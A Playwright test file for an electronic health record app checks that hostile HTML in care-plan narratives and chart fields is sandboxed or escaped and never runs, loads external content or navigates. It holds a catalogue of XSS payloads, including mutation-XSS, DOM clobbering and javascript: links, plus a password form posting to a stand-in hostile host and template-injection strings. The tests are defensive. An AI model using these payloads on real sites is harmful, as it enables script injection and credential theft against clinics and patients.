import type { BrowserContext, CDPSession, Page } from '@playwright/test';
import type { Demo } from '../ehr/serve-demo.ts';
import { expect, MONTH, openAlone, test } from './demo.ts';

const MINA = 'demo-0013';
const BRUNO = 'demo-0002';
const IVY = 'demo-0009';
const NURSE = 'nadia-sampler';

/** Said in every narrative before and after what is hostile in it: whatever becomes of that, both must be read. */
const BEFORE = 'Take water pills daily.';
const AFTER = 'Call when short of breath.';
/** Every address in the narratives, so that any request for one can be told. */
const AWAY = 'https://hostile.example';

const HOSTILE: Readonly<Record<string, string>> = {
  script: `<script>window.pwned = 'script'; fetch('${AWAY}/script')</script>`,
  'script from elsewhere': `<script src="${AWAY}/a.js"></script><script type="module" src="${AWAY}/b.js"></script>`,
  'event handlers': `<img src="${AWAY}/x.png" onerror="window.pwned='onerror'"/><b onmouseover="window.pwned='over'" onclick="alert(1)">b</b><details open="" ontoggle="alert(1)">d</details>`,
  'body and focus handlers': `<body onload="alert(1)" onpageshow="alert(1)"><input autofocus="" onfocus="alert(1)"/><video src="${AWAY}/v" onloadstart="alert(1)"></video></body>`,
  'style element': `<style>@import url('${AWAY}/a.css'); html, body, .shell { display: none !important; background: url('${AWAY}/b.png') }</style>`,
  'style attribute': `<div style="position:fixed;inset:0;z-index:9999;background:url('${AWAY}/c.png')">covering</div>`,
  'linked style': `<link rel="stylesheet" href="${AWAY}/d.css"/><link rel="preload" as="image" href="${AWAY}/e.png"/>`,
  form: `<form action="${AWAY}/form" method="post"><input name="password" type="password"/><button formaction="javascript:alert(1)">Sign in</button><select><option>o</option></select><textarea>t</textarea></form>`,
  'links that run': `<a href="javascript:window.pwned='link'">one</a> <a href="&#106;ava&#x09;script:alert(1)">two</a> <a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">three</a> <a href="${AWAY}" target="_top">four</a>`,
  base: `<base href="${AWAY}/" target="_blank"/>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${AWAY}/refresh"/>`,
  frames: `<iframe src="${AWAY}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.pwned='srcdoc'&lt;/script&gt;"></iframe><frameset><frame src="${AWAY}/f"/></frameset>`,
  'objects and embeds': `<object data="${AWAY}/o.swf"><param name="movie" value="${AWAY}"/></object><embed src="${AWAY}/e"/><applet code="A"></applet>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned='svg'"><script>window.pwned='svg script'</script><foreignObject><body onload="alert(1)"/></foreignObject><use href="${AWAY}/s.svg#x"/><a xlink:href="javascript:alert(1)"><text>t</text></a><animate onbegin="alert(1)" attributeName="x"/></svg>`,
  MathML: `<math><mtext><table><mglyph><style><img src="x" onerror="window.pwned='math'"/></style></mglyph></table></mtext><maction actiontype="statusline#${AWAY}">m</maction></math>`,
  'mutating markup': `<svg></p><style><a id="</style><img src=1 onerror=window.pwned='mxss1'>"></style></svg><math><mi><noscript><p title="</noscript><img src=x onerror=window.pwned='mxss2'>"></p></noscript></mi></math>`,
  'mutating forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned='mxss3'"></style></mglyph></form>`,
  'unclosed markup': '<p><b><i><u><div><table><tr><td><ul><li',
  'unclosed tail': '<p title="never closed',
  'names that clobber': `<form id="document" name="body"><input name="attributes"/><input name="getElementById"/></form><a id="location" name="cookie">a</a><img name="querySelector"/><div id="root">root</div><div id="pwned">p</div>`,
  entities: '&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt; &nbsp; &notanentity;',
  'foreign doctype': `<!DOCTYPE x [<!ENTITY e SYSTEM "${AWAY}/entity">]><?xml-stylesheet href="${AWAY}/x.xsl"?>&e;<![CDATA[<script>alert(1)</script>]]>`,
  templates: `<template><img src="${AWAY}/t" onerror="alert(1)"/></template><slot name="s">s</slot><custom-thing onclick="alert(1)">c</custom-thing><dialog open="">d</dialog>`,
  comments: `<!--><img src=x onerror="window.pwned='comment'">--><!--[if IE]><script>alert(1)</script><![endif]-->`,
  'deep nesting': '<div>'.repeat(3_000),
};

test('whatever an EHR’s prose holds, its words are shown, and nothing in it runs, loads, covers, sends or leads away', async ({
  clinic,
  demo,
}) => {
  const names = Object.keys(HOSTILE);
  names.forEach((name, index) => putProse(demo, MINA, `hostile-${index}`, name, `<p>${BEFORE}</p>${HOSTILE[name] ?? ''}<p>${AFTER}</p>`));
  const page = await openPlan(clinic, demo, MINA);
  const before = await appAsItIs(page);
  const watch = watchFor(page, clinic);
  for (const [index, name] of names.entries()) {
    const row = page.getByRole('row').filter({ has: page.getByText(`CarePlan/hostile-${index}`, { exact: true }) });
    await row.getByText('As the EHR words it').click();
    const frame = row.locator('iframe');
    await expect(frame, name).toHaveAttribute('sandbox', 'allow-same-origin');
    const body = frame.contentFrame().locator('body');
    await expect(body, name).toContainText(BEFORE);
    if (!name.startsWith('unclosed')) await expect(body, name).toContainText(AFTER);
    expect(await body.evaluate(foreignParts), name).toEqual([]);
    const box = await frame.boundingBox();
    expect(box?.height ?? 0, name).toBeGreaterThan(20);
    expect(box?.height ?? 0, name).toBeLessThanOrEqual(422);
  }
  const links = row(page, 'links that run', names).locator('iframe').contentFrame();
  await links.getByText('one two three four').click();
  const entities = row(page, 'entities', names).locator('iframe').contentFrame().locator('body');
  await expect(entities).toContainText('<script>window.pwned=1</script> <img src=x onerror=alert(1)>');
  await page.keyboard.press('Tab');
  expect(await appAsItIs(page)).toEqual(before);
  expect(watch()).toEqual([]);
});

test('two million characters of prose are cut, and keep the page busy for less than two seconds', async ({ clinic, demo }) => {
  const sentence = '<p class="line">The plan says <b>the same</b> once more.</p>';
  putProse(demo, MINA, 'hostile-huge', 'Huge', `<p>${BEFORE}</p>${sentence.repeat(2_000_000 / sentence.length)}`);
  const formatting = Array.from({ length: 60_000 }, (_none, index) => `<b id="${index}">`).join('');
  putProse(demo, MINA, 'hostile-formatting', 'Formatting', `<p>${BEFORE}</p>${formatting}${'<p>x'.repeat(200_000)}`);
  putProse(demo, MINA, 'hostile-word', 'One word', `<p>${BEFORE}${'x'.repeat(2_000_000)}</p>`);
  const page = await openPlan(clinic, demo, MINA);
  const watch = watchFor(page, clinic);
  const cdp = await clinic.newCDPSession(page);
  // The page's own work, whatever else the machine is doing.
  await cdp.send('Performance.enable', { timeDomain: 'threadTicks' });
  for (const id of ['huge', 'formatting', 'word']) {
    const one = page.getByRole('row').filter({ has: page.getByText(`CarePlan/hostile-${id}`, { exact: true }) });
    const before = await busySeconds(cdp);
    await one.getByText('As the EHR words it').click();
    await one.locator('iframe').contentFrame().getByText(BEFORE).first().waitFor();
    await expect(one.getByText('This text is very long. Its beginning is shown; read the rest in the EHR.')).toBeVisible();
    await page.evaluate(() => new Promise((painted) => requestAnimationFrame(() => requestAnimationFrame(painted))));
    expect((await busySeconds(cdp)) - before, id).toBeLessThan(2);
  }
  expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)).toBeLessThanOrEqual(0);
  expect(watch()).toEqual([]);
});

const MARKUP = `"><img src=x onerror="window.pwned='field'"><script>window.pwned='field'</script>{{7*7}}\${7*7}`;

test('markup in names and words of the chart is shown as it is written, on every screen', async ({ clinic, demo }) => {
  const [plan] = demo.ehr.stored('CarePlan', BRUNO);
  demo.ehr.put({
    ...plan,
    title: `Plan ${MARKUP}`,
    note: [...(plan?.note ?? []), { authorString: `Author ${MARKUP}`, time: '2026-11-02T10:00:00Z', text: `Note ${MARKUP}` }],
  });
  for (const goal of demo.ehr.stored('Goal', BRUNO)) demo.ehr.put({ ...goal, description: { text: `Goal ${MARKUP}` } });
  for (const condition of demo.ehr.stored('Condition', BRUNO))
    demo.ehr.put({ ...condition, code: { ...condition.code, text: `Condition ${MARKUP}` } });
  for (const medicine of demo.ehr.stored('MedicationRequest', BRUNO))
    demo.ehr.put({ ...medicine, medicationCodeableConcept: { text: `Medicine ${MARKUP}` } });
  for (const team of demo.ehr.stored('CareTeam', BRUNO)) {
    demo.ehr.put({
      ...team,
      participant: team.participant?.map((one) => ({ ...one, member: { ...one.member, display: `Helper ${MARKUP}` } })),
    });
  }
  const [patient] = demo.ehr.stored('Patient', BRUNO).filter(({ id }) => id === BRUNO);
  demo.ehr.put({ ...patient, name: [{ text: `Patient ${MARKUP}` }] });
  demo.ehr.put({
    resourceType: 'Consent',
    id: 'hostile-consent',
    status: 'active',
    scope: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/consentscope', code: 'treatment' }] },
    category: [{ text: `Chronic care ${MARKUP}` }],
    patient: { reference: `Patient/${BRUNO}` },
    dateTime: '2026-11-01',
    policyRule: { text: 'x' },
    provision: {
      type: 'permit',
      actor: [{ role: { text: 'performer' }, reference: { reference: 'Practitioner/x', display: `Doctor ${MARKUP}` } }],
    },
  });
  const page = await openAlone(clinic, demo, { patient: BRUNO, user: NURSE });
  await expect(page.getByRole('navigation', { name: 'Screens' })).toBeVisible();
  const watch = watchFor(page, clinic);
  const shown = new Map<string, string>();
  for (const screen of ['home', 'plan', 'consent', 'enrolment', 'copy', 'eligibility', 'time', 'close', 'call', 'problems']) {
    await page.evaluate((hash) => {
      window.location.hash = hash;
    }, `#/${MONTH}/${screen}`);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    if (screen === 'copy') await expect(page.getByRole('article')).toBeVisible();
    if (screen === 'plan') await expect(page.getByText('Reading the medicines …')).toHaveCount(0);
    shown.set(screen, await page.locator('body').innerText());
    expect(
      await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
      screen,
    ).toBeLessThanOrEqual(0);
  }
  const everything = [...shown.values()].join('\n');
  for (const field of ['Plan', 'Note', 'Goal', 'Condition', 'Medicine', 'Helper', 'Chronic care', 'Patient']) {
    expect(everything).toContain(`${field} ${MARKUP}`);
  }
  expect(await page.title()).not.toContain('onerror');
  expect(await page.locator('img[onerror], script:not([src])').count()).toBe(0);
  expect(watch()).toEqual([]);
});

test.describe('an EHR that keeps plans as prose and takes none', () => {
  test.use({ persona: 'oracle-like' });

  test('its plan is shown in its own words, and our work goes among the notes', async ({ clinic, demo }) => {
    const page = await openPlan(clinic, demo, IVY);
    const [prose] = demo.ehr.stored('CarePlan', IVY);
    const text = page.locator('iframe').first().contentFrame().locator('body');
    if ((await page.locator('iframe').count()) === 0) await page.getByText('As the EHR words it').first().click();
    const words = (prose?.text?.div ?? '')
      .replace(/<[^>]*>/g, ' ')
      .trim()
      .split(/\s+/)
      .slice(0, 3)
      .join(' ');
    await expect(text).toContainText(words);
    const before = demo.ehr.storedText('CarePlan', prose?.id ?? '');
    await page.getByLabel('Goal', { exact: true }).fill('Walk a mile every day');
    await page.getByRole('button', { name: 'Add to the list' }).click();
    await page.getByRole('button', { name: 'Save 1 change' }).click();
    await expect(page.getByText('The change to the care plan is recorded')).toBeVisible();
    const notes = () => demo.ehr.stored('DocumentReference', IVY).map(({ content }) => atob(content[0]?.attachment.data ?? ''));
    await expect.poll(() => notes().join('\n')).toContain('Walk a mile every day');
    expect(demo.ehr.storedText('CarePlan', prose?.id ?? '')).toBe(before);
  });
});

function putProse(demo: Demo, patient: string, id: string, title: string, body: string): void {
  demo.ehr.put({
    resourceType: 'CarePlan',
    id,
    status: 'active',
    intent: 'plan',
    title,
    category: [{ coding: [{ system: 'http://hl7.org/fhir/us/core/CodeSystem/careplan-category', code: 'assess-plan' }] }],
    subject: { reference: `Patient/${patient}` },
    text: { status: 'additional', div: `<div xmlns="http://www.w3.org/1999/xhtml">${body}</div>` },
  });
}

function row(page: Page, name: string, names: readonly string[]) {
  return page.getByRole('row').filter({ has: page.getByText(`CarePlan/hostile-${names.indexOf(name)}`, { exact: true }) });
}

async function openPlan(context: BrowserContext, demo: Demo, patient: string): Promise<Page> {
  const page = await openAlone(context, demo, { patient, user: NURSE });
  await page.getByRole('navigation', { name: 'Screens' }).getByRole('link', { name: 'Care plan' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Care plan' })).toBeVisible();
  await expect(page.getByText('As the EHR words it').first()).toBeVisible();
  return page;
}

/** Seconds that the page's main thread has worked so far. */
async function busySeconds(cdp: CDPSession): Promise<number> {
  const { metrics } = await cdp.send('Performance.getMetrics');
  const busy = metrics.find(({ name }) => name === 'TaskDuration')?.value;
  if (busy === undefined) throw new Error('the browser does not tell how long it worked');
  return busy;
}

/** Elements and attributes in the frame that are no plain text and structure. */
function foreignParts(body: HTMLElement): readonly string[] {
  const plain =
    'html head body p div span br hr b strong i em u small sub sup pre code blockquote ul ol li dl dt dd table caption thead tbody tfoot tr th td'.split(
      ' ',
    );
  return [...body.ownerDocument.querySelectorAll('*')].flatMap((element) => [
    ...(plain.includes(element.localName) ? [] : [element.localName]),
    ...[...element.attributes]
      .filter(({ name }) => !(name === 'lang' && element.localName === 'html'))
      .map(({ name }) => `${element.localName} ${name}`),
  ]);
}

/** What hostile text might change of the app around it. */
function appAsItIs(page: Page) {
  return page.evaluate(() => ({
    pwned: 'pwned' in window,
    address: window.location.href,
    title: document.title,
    base: document.baseURI,
    sheets: document.styleSheets.length,
    body: document.body.localName,
    root: document.getElementById('root')?.parentElement?.localName,
    forms: document.forms.length,
    metas: document.querySelectorAll('meta, base').length,
    covered: document.elementFromPoint(20, 20)?.closest('#root') !== null,
  }));
}

/** Watches for everything that text of a chart must never cause; tells what was seen so far. */
function watchFor(page: Page, context: BrowserContext): () => readonly string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.push(`error ${error.message}`));
  page.on('console', (message) => {
    // The fixed clock of these tests is a script that Playwright puts into every frame, and the sandbox refuses it as it does all.
    const isOfClock = message.text().startsWith("Blocked script execution in 'about:blank'");
    if (message.type() === 'error' && !isOfClock) seen.push(`console ${message.text()}`);
  });
  page.on('framenavigated', (frame) => {
    if (!['about:blank', ''].includes(frame.url()) && frame !== page.mainFrame()) seen.push(`navigation ${frame.url()}`);
    if (frame === page.mainFrame() && frame.url().includes('hostile.example')) seen.push(`navigation ${frame.url()}`);
  });
  context.on('request', (request) => {
    if (request.url().includes('hostile.example') || new URL(request.url()).pathname.endsWith('/x')) seen.push(`request ${request.url()}`);
  });
  context.on('page', (opened) => seen.push(`window ${opened.url()}`));
  return () => seen;
}
